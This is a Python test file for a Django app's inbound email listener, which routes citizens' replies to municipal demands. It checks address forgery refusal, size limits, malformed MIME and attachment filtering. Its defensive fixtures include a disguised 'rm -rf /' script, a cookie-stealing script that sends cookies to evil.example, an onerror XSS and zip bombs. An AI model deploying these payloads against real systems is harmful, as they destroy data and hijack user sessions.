"""A real SMTP conversation with the reply listener on localhost: replies land on the right
demand of the right town; forged, unknown and erased addresses are refused at RCPT time;
hostile mails never crash it nor store anything dangerous."""

import logging
import smtplib

import pytest
from django.conf import settings
from django_tenants.utils import schema_context

from tenant_apps.correspondence.addresses import ReplyTarget, reply_address, target_of
from tenant_apps.correspondence.models import Attachment, DemandEmail
from tenant_apps.demands.enums import EventKind
from tenant_apps.demands.models import DemandEvent
from tests.factories import DemandFactory
from tests.tenant_apps.correspondence.helpers import PDF, PNG, docx, reply, zip_bomb


def wire(message):
    """The bytes a mail server sends: CRLF line ends."""
    return message.as_bytes(policy=message.policy.clone(linesep="\r\n"))


def send(port, to, message, sender="camille@example.fr"):
    raw = message if isinstance(message, bytes) else wire(message)
    with smtplib.SMTP("127.0.0.1", port, timeout=20) as smtp:
        return smtp.sendmail(sender, [to], raw)


def emails_in(town, demand_pk):
    with schema_context(town.schema_name):
        return list(DemandEmail.objects.filter(demand_id=demand_pk).prefetch_related("attachments"))


def test_a_reply_lands_on_its_demand_in_its_town(listener, committed_towns):
    town_a, town_b, make = committed_towns
    target, same_id_elsewhere = make(town_a), make(town_b)

    send(listener, target.address, reply(target.address, text="Je passe jeudi à 10 h."))

    [email] = emails_in(town_a, target.pk)
    assert email.body == "Je passe jeudi à 10 h."
    assert email.from_address == "camille@example.fr"
    with schema_context(town_a.schema_name):
        event = DemandEvent.objects.get(demand_id=target.pk, kind=EventKind.EMAIL_RECEIVED)
    assert "Je passe jeudi à 10 h." in event.message
    assert event.visible_to_applicant is False
    assert emails_in(town_b, same_id_elsewhere.pk) == []


def test_a_second_towns_token_never_lands_in_the_first(listener, committed_towns):
    town_a, town_b, make = committed_towns
    in_a, in_b = make(town_a), make(town_b)

    send(listener, in_b.address, reply(in_b.address, text="Réponse pour la ville B."))

    assert [e.body for e in emails_in(town_b, in_b.pk)] == ["Réponse pour la ville B."]
    assert emails_in(town_a, in_a.pk) == []
    # Same demand id, other town's salt: the token of B does not open A's demand of that id.
    assert in_a.address != in_b.address


def test_mail_servers_that_lowercase_or_uppercase_the_address_still_deliver(
    listener, committed_towns
):
    town_a, _, make = committed_towns
    target = make(town_a)

    send(listener, target.address.upper(), reply(target.address.upper()))

    assert len(emails_in(town_a, target.pk)) == 1


def refused_at_rcpt(port, address):
    with smtplib.SMTP("127.0.0.1", port, timeout=20) as smtp:
        smtp.ehlo()
        smtp.mail("camille@example.fr")
        return smtp.rcpt(address)


def test_forged_unknown_and_erased_addresses_are_refused_at_rcpt_and_logged(
    listener, committed_towns, caplog
):
    town_a, _, make = committed_towns
    target, erased = make(town_a), make(town_a)
    with schema_context(town_a.schema_name):
        erased.demand.erase()
    gone = make(town_a)
    gone_address = gone.address
    gone.remove()
    local, domain = target.address.split("@")
    forged = local[:-6] + ("a" if local[-6] != "a" else "b") + local[-5:] + "@" + domain
    # The token's last character carries one spare bit: its other spelling decodes to the
    # same bytes, and is refused all the same.
    alphabet = "abcdefghijklmnopqrstuvwxyz234567"
    spare_bit = local[:-1] + alphabet[alphabet.index(local[-1]) ^ 1] + "@" + domain
    caplog.set_level(logging.WARNING, logger="tenant_apps.correspondence.inbound")

    for address in (
        forged,
        spare_bit,
        erased.address,
        gone_address,
        f"reponse+nimportequoi@{settings.INBOUND_EMAIL_DOMAIN}",
        f"contact@{settings.INBOUND_EMAIL_DOMAIN}",
        target.address.replace(settings.INBOUND_EMAIL_DOMAIN, "ailleurs.example"),
    ):
        code, _ = refused_at_rcpt(listener, address)
        assert code == 550, address

    assert refused_at_rcpt(listener, target.address)[0] == 250
    refusals = [r for r in caplog.records if "refusé" in r.getMessage()]
    assert len(refusals) == 7
    assert "signature invalide" in refusals[0].getMessage()
    assert "demande inconnue ou effacée" in refusals[2].getMessage()
    assert all("camille" not in r.getMessage() for r in refusals)  # no sender in the logs
    with pytest.raises(smtplib.SMTPRecipientsRefused):
        send(listener, forged, reply(forged))


def test_the_same_message_delivered_twice_is_recorded_once(listener, committed_towns):
    town_a, _, make = committed_towns
    target = make(town_a)
    message = reply(target.address, message_id="<une-seule-fois@example.fr>")

    send(listener, target.address, message)
    send(listener, target.address, message)

    assert len(emails_in(town_a, target.pk)) == 1
    with schema_context(town_a.schema_name):
        assert DemandEvent.objects.filter(demand_id=target.pk, kind="email_received").count() == 1


def test_a_message_over_the_limit_is_refused_with_552(listener, committed_towns):
    town_a, _, make = committed_towns
    target = make(town_a)
    huge = reply(
        target.address, files=[("gros.pdf", PDF + b"0" * (11 * 1024 * 1024), "application", "pdf")]
    )

    # The listener announces its limit (SIZE): a client that says the size is stopped
    # before sending anything...
    with pytest.raises(smtplib.SMTPSenderRefused) as refused:
        send(listener, target.address, huge)
    assert refused.value.smtp_code == 552
    # ...and one that does not is stopped at DATA.
    with smtplib.SMTP("127.0.0.1", listener, timeout=30) as smtp:
        smtp.ehlo()
        smtp.mail("camille@example.fr")
        smtp.rcpt(target.address)
        code, _ = smtp.data(wire(huge))
    assert code == 552
    assert emails_in(town_a, target.pk) == []


def test_malformed_mime_is_read_as_far_as_it_goes(listener, committed_towns):
    town_a, _, make = committed_towns
    target = make(town_a)
    raw = (
        f"From: camille@example.fr\r\nTo: {target.address}\r\nSubject: =?utf-8?B?cas=?=\r\n"
        "Message-ID: <casse@example.fr>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="jamais-ferme"\r\n\r\n'
        "--jamais-ferme\r\nContent-Type: text/plain; charset=utf-8\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\nQm9uam91ciDDoCB2b3VzIQ==\r\n"
        "--jamais-ferme\r\nContent-Type: application/pdf\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n%%%pas du base64%%%\r\n"
    ).encode()

    send(listener, target.address, raw)

    [email] = emails_in(town_a, target.pk)
    assert email.body == "Bonjour à vous!"


def test_a_wrong_charset_declaration_is_read_without_crashing(listener, committed_towns):
    town_a, _, make = committed_towns
    target = make(town_a)
    latin1_as_utf8 = (
        f"From: camille@example.fr\r\nTo: {target.address}\r\nSubject: Re\r\n"
        "Message-ID: <charset-1@example.fr>\r\n"
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    ).encode() + "Très bien, à jeudi.\r\n".encode("latin-1")
    unknown = (
        f"From: camille@example.fr\r\nTo: {target.address}\r\nSubject: Re\r\n"
        "Message-ID: <charset-2@example.fr>\r\n"
        "Content-Type: text/plain; charset=x-inconnu-42\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    ).encode() + "Déjà répondu.\r\n".encode()

    send(listener, target.address, latin1_as_utf8)
    send(listener, target.address, unknown)

    assert [e.body for e in emails_in(town_a, target.pk)] == [
        "Très bien, à jeudi.",
        "Déjà répondu.",
    ]


def test_zip_bombs_and_archives_are_refused_other_files_kept_privately(listener, committed_towns):
    town_a, _, make = committed_towns
    target = make(town_a)
    message = reply(
        target.address,
        files=[
            ("bombe.zip", zip_bomb(), "application", "zip"),
            ("devis.docx", zip_bomb(office=True), "application", "octet-stream"),
            ("plan.docx", docx(), "application", "octet-stream"),
            ("kbis.pdf", PDF, "application", "pdf"),
            ("photo.pdf", PNG, "application", "pdf"),  # the content decides, not the name
            ("script.pdf", b"#!/bin/sh\nrm -rf /\n", "application", "pdf"),
        ],
    )

    send(listener, target.address, message)

    [email] = emails_in(town_a, target.pk)
    kept = {a.file_name: a.content_type for a in email.attachments.all()}
    assert kept == {
        "plan.docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "kbis.pdf": "application/pdf",
        "photo.png": "image/png",
    }
    refusals = " ".join(email.refused_files)
    assert "bombe.zip : archive" in refusals
    assert "devis.docx : taux de compression anormal" in refusals
    assert "script.pdf : type de fichier non accepté" in refusals
    with schema_context(town_a.schema_name):
        files = list(Attachment.objects.filter(email=email))
        stored = {f.file_name: f.path for f in files}
    assert stored["kbis.pdf"].read_bytes() == PDF
    assert str(stored["kbis.pdf"]).startswith(str(settings.PRIVATE_ROOT))
    assert not str(stored["kbis.pdf"]).startswith(str(settings.MEDIA_ROOT))
    assert town_a.schema_name in str(stored["kbis.pdf"])


def test_html_with_scripts_is_kept_as_plain_text_only(listener, committed_towns):
    town_a, _, make = committed_towns
    target = make(town_a)
    html = (
        "<html><head><style>p{color:red}</style><script>alert('head')</script></head>"
        "<body><p>Merci pour <b>ces locaux</b> &amp; à bientôt.</p>"
        "<script>document.location='https://evil.example/'+document.cookie</script>"
        "<img src=x onerror=alert(1)><p>Camille</p></body></html>"
    )
    message = reply(target.address, html=html)
    message.clear_content()
    message.set_content(html, subtype="html")

    send(listener, target.address, message)

    [email] = emails_in(town_a, target.pk)
    assert email.body == "Merci pour ces locaux & à bientôt.\n\nCamille"
    for fragment in ("<", "script", "alert", "color:red", "evil"):
        assert fragment not in email.body


def test_the_quoted_previous_message_is_cut(listener, committed_towns):
    town_a, _, make = committed_towns
    target = make(town_a)
    text = (
        "Oui, le local de la rue Nationale m’intéresse.\n\n"
        "Le lun. 7 déc. 2026 à 10:02, Ville A <ne-pas-repondre@localhost> a écrit :\n"
        "> Bonjour Camille,\n> voici les locaux proposés.\n"
    )

    send(listener, target.address, reply(target.address, text=text))

    [email] = emails_in(town_a, target.pk)
    assert email.body == "Oui, le local de la rue Nationale m’intéresse."


def test_lmtp_delivers_one_recipient_per_transaction(lmtp_listener, committed_towns):
    town_a, _, make = committed_towns
    first, second = make(town_a), make(town_a)
    with smtplib.LMTP("127.0.0.1", lmtp_listener, timeout=20) as lmtp:
        lmtp.ehlo_or_helo_if_needed()
        lmtp.mail("camille@example.fr")
        assert lmtp.rcpt(first.address)[0] == 250
        assert lmtp.rcpt(second.address)[0] == 452  # the server sends it again afterwards
        code, _ = lmtp.data(wire(reply(first.address)))
    assert code == 250
    assert len(emails_in(town_a, first.pk)) == 1


# The address itself (inside a test transaction: no listener needed).


@pytest.mark.django_db
def test_a_reply_address_fits_a_local_part_and_survives_case_changes(town_a, town_b, in_town):
    with in_town(town_a):
        demand = DemandFactory()
        address = reply_address(demand)
    local = address.split("@")[0]
    assert len(local) <= 64
    assert local == local.lower()
    assert target_of(address.upper()) == ReplyTarget(town_a.schema_name, demand.pk)
    with in_town(town_b):
        other = DemandFactory(pk=demand.pk)
        assert reply_address(other) != address
